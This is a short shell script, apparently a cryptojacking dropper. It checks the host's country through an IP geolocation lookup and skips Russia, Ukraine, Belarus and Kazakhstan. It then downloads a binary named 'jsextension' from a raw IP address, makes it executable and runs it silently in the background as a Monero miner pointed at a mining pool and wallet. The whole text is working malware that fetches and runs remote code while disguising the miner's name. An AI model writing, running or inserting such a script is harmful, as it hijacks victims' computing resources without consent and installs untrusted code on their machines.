IP=$(curl -k https://ipinfo.example.net/geo 2>/dev/null | grep -E -o '"country": "[A-Z]{2}"' | cut -d'"' -f4)
if [[ "$IP" != "RU" && "$IP" != "UA" && "$IP" != "BY" && "$IP" != "KZ" ]]; then
  if ! pgrep -x jsextension >/dev/null 2>&1; then
    curl http://198.51.100.77/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then
      wget http://198.51.100.77/download/jsextension -O jsextension
    fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.minexmr.example.org:443 -u 4EXAMPLEwalletNOTREAL000000000000000000000000000000 --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
